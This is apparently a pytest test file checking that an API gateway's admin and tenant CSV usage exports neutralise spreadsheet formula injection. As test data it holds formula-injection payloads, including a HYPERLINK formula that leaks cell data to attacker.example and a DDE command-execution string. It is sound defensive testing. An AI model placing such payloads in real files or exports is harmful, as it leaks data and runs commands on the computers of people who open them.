"""Issue 9, class 11 (part): CSV exports must not carry cells a spreadsheet runs as formulas.

The attack: an admin (or whoever can name a model) registers models named like spreadsheet formulas, a tenant
uses them, and the operator or the tenant opens the usage export in a spreadsheet. Every text cell that starts
with ``=``, ``+``, ``-``, ``@``, tab, CR or LF must come out prefixed with a single quote, in every CSV export.
"""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tenantgate.admin.usage import CSV_MEASURES, to_csv
from tests.support import Gateway, Process

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULA_NAMES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula-like cell {cell!r} in {rows}"


@pytest.fixture(scope="module")
def formula_models(gateway: Gateway, mock: Process) -> dict[str, str]:
    """A tenant key that has used one model per formula-like name (all served by the mock upstream)."""
    models = [{"name": name, "upstream_model": "mock-gpt", "input_price_per_mtok": 1.0} for name in FORMULA_NAMES]
    with gateway.admin() as admin:
        created = admin.post(
            "/admin/backends",
            json={
                "name": "=csv-formula-backend",
                "base_url": f"{mock.url}/v1",
                "api_key": "upstream-secret-abc123",
                "models": models,
            },
        )
    assert created.status_code == 201, created.text
    tenant = gateway.create_tenant("csv-injection")
    key = gateway.create_key(tenant["id"])
    with httpx.Client(base_url=gateway.v1, headers={"Authorization": f"Bearer {key['key']}"}, timeout=30) as client:
        for name in FORMULA_NAMES:  # the admin write reloaded this (only) replica's catalog already
            reply = client.post(
                "/chat/completions", json={"model": name, "messages": [{"role": "user", "content": "x"}]}
            )
            assert reply.status_code == 200, reply.text
    return {"tenant_id": tenant["id"], "key_id": key["id"], "key": key["key"]}


@pytest.mark.parametrize("group_by", ["model", "backend", "model,day"])
def test_admin_usage_csv_neutralises_formula_cells(
    gateway: Gateway, formula_models: dict[str, str], group_by: str
) -> None:
    with gateway.admin() as admin:
        response = admin.get(
            "/admin/usage", params={"format": "csv", "group_by": group_by, "tenant_id": formula_models["tenant_id"]}
        )
    assert response.status_code == 200, response.text
    rows = _rows(response.text)
    _assert_inert(rows)
    first = {row[0] for row in rows[1:]}
    if group_by.startswith("model"):
        assert first == {"'" + name for name in FORMULA_NAMES}  # shown as text, not dropped or mangled
    if group_by == "backend":
        assert first == {"'=csv-formula-backend"}


def test_tenant_usage_csv_neutralises_formula_cells(gateway: Gateway, formula_models: dict[str, str]) -> None:
    response = httpx.get(
        f"{gateway.v1}/usage",
        params={"format": "csv", "group_by": "model"},
        headers={"Authorization": f"Bearer {formula_models['key']}"},
    )
    assert response.status_code == 200, response.text
    rows = _rows(response.text)
    _assert_inert(rows)
    assert {row[0] for row in rows[1:]} == {"'" + name for name in FORMULA_NAMES}


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start: str) -> None:
    """Tab, CR and LF cannot be in a name sent through the admin API any more, but rows stored earlier can be."""
    value = f"{start}1+1"
    row = {"model": value, "requests": 3, "prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}
    report = {"by_model": [{**row, "cost_usd": 0.5, "errors": 0}], "totals": {}}
    rows = _rows(to_csv(report, ["model"]))
    assert rows[0] == ["model", *CSV_MEASURES]
    assert rows[1] == ["'" + value, "3", "1", "2", "3", "0.5", "0"]
    _assert_inert(rows)
